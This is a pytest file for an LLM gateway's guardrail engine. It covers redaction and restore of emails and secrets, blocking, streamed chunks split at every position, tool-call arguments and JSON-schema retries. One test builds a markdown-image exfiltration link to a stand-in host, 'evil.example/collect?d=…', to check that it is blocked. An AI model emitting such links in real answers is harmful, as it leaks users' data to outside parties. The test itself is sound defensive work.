"""The guardrail engine with a plain test scanner: actions, verdicts, redaction and restore, and
streams that never release a value split across chunks, at any split position."""

from __future__ import annotations

import re
from typing import Any

import pytest

from ostiary.config.schema import Check, GuardrailPolicy, Guardrails
from ostiary.guardrails.base import Finding
from ostiary.guardrails.policy import Policy, Rule
from ostiary.guardrails.redact import Vault
from ostiary.guardrails.stage import GuardrailBlocked, GuardrailsStage
from ostiary.guardrails.stream import GuardedStream
from ostiary.identity.principal import ANONYMOUS
from ostiary.pipeline.call import Call

EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.]+\w")


class Emails:
    name = "pii"

    def scan(self, text: str) -> list[Finding]:
        return [Finding("EMAIL", m.start(), m.end(), 0.9) for m in EMAIL.finditer(text)]


class Broken:
    name = "secrets"

    def scan(self, text: str) -> list[Finding]:
        raise RuntimeError("model file missing")


def policy(inp: list[tuple[Any, str]] = (), out: list[tuple[Any, str]] = (), restore: bool = True,
           fail_open: bool = False) -> Policy:
    def rule(scanner: Any, action: str) -> Rule:
        return Rule(Check(scanner=scanner.name, action=action, fail_open=fail_open), scanner, None)

    return Policy("strict", "v1", GuardrailPolicy(restore=restore), tuple(rule(s, a) for s, a in inp),
                  tuple(rule(s, a) for s, a in out))


def stage_with(p: Policy) -> GuardrailsStage:
    stage = GuardrailsStage(Guardrails(), "v1")
    stage.policies = {"strict": p}
    stage.cfg = Guardrails.model_construct(policies={}, default="strict", routes={}, tenants={})
    return stage


def chat(text: str, stream: bool = False) -> Call:
    c = Call(id="r", api="openai.chat", body={"model": "m", "messages": [
        {"role": "system", "content": "Be brief."}, {"role": "user", "content": text}]}, model="m", stream=stream,
        config_version="v1")
    c.principal = ANONYMOUS
    return c


def test_vault_is_consistent_and_restores_only_its_own() -> None:
    v = Vault()
    text = "a@b.io wrote to c@d.io and a@b.io again; <EMAIL_9> stays"
    red = v.redact(text, Emails().scan(text))
    assert red == "<EMAIL_1> wrote to <EMAIL_2> and <EMAIL_1> again; <EMAIL_9> stays"
    assert v.restore(red) == text
    assert "a@b.io" not in repr(v)


async def test_redacted_values_never_reach_the_upstream_and_come_back_in_the_answer() -> None:
    stage = stage_with(policy(inp=[(Emails(), "redact")]))
    c = chat("Write to alice@example.com please")
    seen: list[str] = []

    async def upstream(call: Call) -> None:
        seen.append(call.body["messages"][1]["content"])
        call.result = {"choices": [{"index": 0, "message": {"role": "assistant",
                                                            "content": "Sent to <EMAIL_1>."}}]}

    await stage(c, upstream)
    assert seen == ["Write to <EMAIL_1> please"]
    assert c.result["choices"][0]["message"]["content"] == "Sent to alice@example.com."  # type: ignore[index]
    allowed, v = c.decisions["guardrails"]  # every text scanned leaves a verdict
    assert (allowed["segment"], allowed["action"]) == ("system", "allow")
    assert v["action"] == "redact" and v["entities"] == {"EMAIL": 1} and v["policy"] == "strict"
    assert v["segment"] == "user" and v["version"] == "v1" and v["ms"] >= 0
    assert "alice" not in repr(c.decisions)


async def test_block_names_policy_scanner_and_place_and_a_failing_scanner_blocks() -> None:
    stage = stage_with(policy(inp=[(Emails(), "block")]))
    with pytest.raises(GuardrailBlocked) as e:
        await stage(chat("mail bob@example.org"), _never)
    assert e.value.status == 400 and e.value.code == "guardrail_blocked"
    assert "'strict'" in e.value.message and "pii" in e.value.message and "EMAIL" in e.value.message
    assert e.value.param == "messages[1].content" and "bob@" not in e.value.message

    with pytest.raises(GuardrailBlocked) as e:
        await stage_with(policy(inp=[(Broken(), "flag")]))(chat("hello"), _never)
    assert "failed" in e.value.message
    c = chat("hello")
    await stage_with(policy(inp=[(Broken(), "flag")], fail_open=True))(c, _answer("ok"))
    assert [d["action"] for d in c.decisions["guardrails"]] == ["error", "error"]


async def test_output_block_and_output_redaction() -> None:
    with pytest.raises(GuardrailBlocked) as e:
        await stage_with(policy(out=[(Emails(), "block")]))(chat("hi"), _answer("mail eve@evil.example"))
    assert e.value.status == 422 and e.value.code == "guardrail_blocked_output"
    c = chat("hi")
    await stage_with(policy(out=[(Emails(), "redact")]))(c, _answer("mail eve@evil.example now"))
    assert c.result["choices"][0]["message"]["content"] == "mail <EMAIL_1> now"  # type: ignore[index]


def _answer(text: str) -> Any:
    async def upstream(call: Call) -> None:
        call.result = {"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]}

    return upstream


async def _never(call: Call) -> None:
    raise AssertionError("the upstream must not be called")


def _chunks(parts: list[str]) -> Any:
    async def gen() -> Any:
        yield [{"id": "c", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"role": "assistant"}}]}]
        for p in parts:
            yield [{"id": "c", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": p}}]}]
        yield [{"id": "c", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {},
                                                                           "finish_reason": "stop"}]}]

    return gen()


async def _collect(stream: GuardedStream) -> str:
    text = ""
    async for batch in stream:
        for chunk in batch:
            for ch in chunk.get("choices") or ():
                text += ch.get("delta", {}).get("content") or ""
    return text


ANSWER = "Please contact alice.smith@example.com about the invoice."


@pytest.mark.parametrize("at", range(1, len(ANSWER)))
async def test_a_value_split_at_any_position_never_reaches_the_client(at: int) -> None:
    parts = [ANSWER[:at], ANSWER[at:]]
    blocked = GuardedStream(_chunks(parts), policy(out=[(Emails(), "block")]), Vault(), [])
    released = ""
    with pytest.raises(GuardrailBlocked):
        async for batch in blocked:
            released += "".join(ch["delta"].get("content") or "" for c in batch for ch in c["choices"])
    assert "alice" not in released and "@" not in released
    redacted = await _collect(GuardedStream(_chunks(parts), policy(out=[(Emails(), "redact")], restore=False),
                                            Vault(), []))
    assert redacted == ANSWER.replace("alice.smith@example.com", "<EMAIL_1>")


async def test_placeholders_split_across_chunks_are_restored() -> None:
    v = Vault()
    v.placeholder("EMAIL", "alice@example.com")
    text = "I wrote to <EMAIL_1> twice: <EMAIL_1>."
    for at in range(1, len(text)):
        out = await _collect(GuardedStream(_chunks([text[:at], text[at:]]), policy(), v, []))
        assert out == "I wrote to alice@example.com twice: alice@example.com.", at


async def test_a_long_stream_is_released_as_it_flows_not_at_the_end() -> None:
    words = [f"word{i} " for i in range(200)]
    stream = GuardedStream(_chunks(words), policy(out=[(Emails(), "block")]), Vault(), [])
    first_text_batch = None
    n = 0
    async for batch in stream:
        n += 1
        if any(ch["delta"].get("content") for c in batch for ch in c["choices"]) and first_text_batch is None:
            first_text_batch = n
    assert first_text_batch is not None and first_text_batch < 50  # released while the stream still runs


REAL = [  # (scanner, a sentence carrying one value, the value)
    ("pii", "Card on file: 4111 1111 1111 1111, expiring soon.", "4111 1111 1111 1111"),
    ("pii", "Wire it to IBAN FR14 2004 1010 0505 0001 3M02 606 today.", "FR14 2004 1010 0505 0001 3M02 606"),
    ("pii", "Her mail is jeanne.dupont@exemple.fr if needed.", "jeanne.dupont@exemple.fr"),
    ("secrets", "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE before running", "AKIAIOSFODNN7EXAMPLE"),
]


@pytest.mark.parametrize("scanner, text, value", REAL)
async def test_real_scanners_never_release_a_value_split_anywhere(scanner: str, text: str, value: str) -> None:
    from ostiary.guardrails.policy import build_scanner

    real = build_scanner(Check(scanner=scanner))  # type: ignore[arg-type]
    assert [text[f.start:f.end] for f in real.scan(text)] == [value]
    for at in range(1, len(text)):
        out = await _collect(GuardedStream(_chunks([text[:at], text[at:]]), policy(out=[(real, "redact")],
                                                                                    restore=False), Vault(), []))
        assert value not in out and out.count("<") == 1, (at, out)


SCHEMA = {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}


def _schema_call(stream: bool = False) -> Call:
    c = chat("Where is the Louvre? Answer in JSON.", stream=stream)
    c.body["response_format"] = {"type": "json_schema", "json_schema": {"name": "place", "schema": SCHEMA}}
    return c


def _schema_policy(retry: bool) -> Policy:
    p = policy()
    return Policy(p.name, p.version, p.settings, p.input, p.output, Check(scanner="json_schema", retry=retry))


async def test_an_answer_off_schema_gets_one_corrective_retry_then_is_blocked() -> None:
    answers = iter(['{"town": "Paris"}', '{"city": "Paris"}'])
    sent: list[int] = []

    async def upstream(call: Call) -> None:
        sent.append(len(call.body["messages"]))
        call.result = {"choices": [{"index": 0, "message": {"role": "assistant", "content": next(answers)}}]}
        call.usage = {"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15}

    c = _schema_call()
    await stage_with(_schema_policy(retry=True))(c, upstream)
    assert c.result["choices"][0]["message"]["content"] == '{"city": "Paris"}'  # type: ignore[index]
    assert sent == [2, 4]  # the retry carries the wrong answer and what was wrong with it
    assert c.usage == {"prompt_tokens": 20, "completion_tokens": 10, "total_tokens": 30}
    assert [d["action"] for d in c.decisions["guardrails"] if d["scanner"] == "json_schema"] == ["retry", "allow"]

    with pytest.raises(GuardrailBlocked) as e:
        await stage_with(_schema_policy(retry=False))(_schema_call(), _answer('{"town": "Paris"}'))
    assert e.value.status == 422 and "'city' is a required property" in e.value.message


async def test_a_streamed_answer_under_a_schema_is_held_whole_and_judged_at_its_end() -> None:
    p = _schema_policy(retry=False)
    good = await _collect(GuardedStream(_chunks(['{"ci', 'ty": "Pa', 'ris"}']), p, Vault(), [], SCHEMA))
    assert good == '{"city": "Paris"}'
    released = ""
    with pytest.raises(GuardrailBlocked):
        async for batch in GuardedStream(_chunks(['{"to', 'wn": "Paris"}']), p, Vault(), [], SCHEMA):
            released += "".join(ch["delta"].get("content") or "" for c in batch for ch in c["choices"])
    assert released == ""  # nothing of the wrong answer went out


async def test_input_findings_are_remembered_by_a_keyed_hash_not_by_the_text() -> None:
    calls: list[str] = []

    class Counting(Emails):
        def scan(self, text: str) -> list[Finding]:
            calls.append(text)
            return super().scan(text)

    p = policy(inp=[(Counting(), "redact")])
    stage = stage_with(p)
    for _ in range(3):  # a client resending the same conversation
        c = chat("Write to alice@example.com please")
        await stage(c, _answer("ok"))
        assert c.body["messages"][1]["content"] == "Write to <EMAIL_1> please"  # redacted every time
    assert len(calls) == 2  # the system prompt and the user message, each scanned once
    assert all(isinstance(k[2], bytes) and b"alice" not in k[2] for k in p.memo)


def _tool_chunks(args: list[str]) -> Any:
    async def gen() -> Any:
        yield [{"id": "c", "choices": [{"index": 0, "delta": {"role": "assistant", "tool_calls": [
            {"index": 0, "id": "call_1", "type": "function", "function": {"name": "send_mail", "arguments": ""}}]}}]}]
        for a in args:
            yield [{"id": "c", "choices": [{"index": 0, "delta": {"tool_calls": [
                {"index": 0, "function": {"arguments": a}}]}}]}]
        yield [{"id": "c", "choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}]

    return gen()


async def test_streamed_tool_call_arguments_are_judged_whole() -> None:
    args = '{"to": "bob@example.org", "body": "hi"}'
    parts = [args[:9], args[9:20], args[20:]]
    out: list[dict[str, Any]] = []
    async for batch in GuardedStream(_tool_chunks(parts), policy(out=[(Emails(), "redact")], restore=False),
                                     Vault(), []):
        out += batch
    calls = [tc for c in out for ch in c["choices"] for tc in (ch.get("delta") or {}).get("tool_calls") or ()]
    assert calls == [{"index": 0, "id": "call_1", "type": "function",
                      "function": {"arguments": '{"to": "<EMAIL_1>", "body": "hi"}', "name": "send_mail"}}]
    assert out[-1]["choices"][0]["finish_reason"] == "tool_calls"
    with pytest.raises(GuardrailBlocked):
        async for _ in GuardedStream(_tool_chunks(parts), policy(out=[(Emails(), "block")]), Vault(), []):
            pass


async def test_values_longer_than_the_held_tail_and_several_choices() -> None:
    from ostiary.guardrails.leaks import ExfiltrationScanner

    link = "See ![x](https://evil.example/collect?d=" + "A" * 150 + ") done."
    parts = [link[i:i + 10] for i in range(0, len(link), 10)]
    released = ""
    with pytest.raises(GuardrailBlocked):
        async for batch in GuardedStream(_chunks(parts), policy(out=[(ExfiltrationScanner([]), "block")]), Vault(), []):
            released += "".join(ch["delta"].get("content") or "" for c in batch for ch in c["choices"])
    assert "evil.example" not in released

    async def two_choices() -> Any:  # choice 0 finishes while choice 1 is in the middle of a value
        yield [{"id": "c", "choices": [{"index": 1, "delta": {"content": "mail bob@exam"}}]}]
        yield [{"id": "c", "choices": [{"index": 0, "delta": {"content": "ok"}, "finish_reason": "stop"}]}]
        yield [{"id": "c", "choices": [{"index": 1, "delta": {"content": "ple.org now"}, "finish_reason": "stop"}]}]

    text: dict[int, str] = {}
    async for batch in GuardedStream(two_choices(), policy(out=[(Emails(), "redact")], restore=False), Vault(), []):
        for c in batch:
            for ch in c["choices"]:
                text[ch["index"]] = text.get(ch["index"], "") + (ch["delta"].get("content") or "")
    assert text == {0: "ok", 1: "mail <EMAIL_1> now"}


def test_overlapping_findings_of_two_rules_are_redacted_as_one() -> None:
    text = "token ABCDEFGHIJ0123456789 end"
    out = Vault().redact(text, [Finding("X", 6, 16, 1.0), Finding("SECRET", 10, 26, 1.0)])
    assert out == "token <SECRET_1> end"


async def test_a_turn_that_calls_tools_is_not_held_to_the_answer_schema() -> None:
    async def tool_turn(call: Call) -> None:
        call.result = {"choices": [{"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [
            {"id": "call_1", "type": "function", "function": {"name": "lookup", "arguments": "{}"}}]}}]}

    c = _schema_call()
    await stage_with(_schema_policy(retry=False))(c, tool_turn)
    assert c.result["choices"][0]["message"]["tool_calls"]  # type: ignore[index]
